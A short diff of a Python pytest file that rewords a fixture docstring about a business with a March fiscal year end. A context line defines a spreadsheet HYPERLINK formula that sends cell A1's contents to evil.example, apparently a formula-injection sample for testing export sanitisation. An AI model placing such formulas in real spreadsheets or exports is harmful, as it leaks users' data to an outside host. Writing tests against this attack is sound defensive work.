@@ -16,7 +16,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 @pytest.fixture(scope="module")
 def shop(acme: Partner) -> Business:
-    """A business whose year ends in March, with a sale before and one after that."""
+    """A business whose year ends in March, with a sale in each of two years."""
     shop = acme.business(fiscal_year_end="2000-03-31")
     buyer = shop.customer()
     for on, amount in (("2025-03-31", 300), ("2025-04-01", 50)):
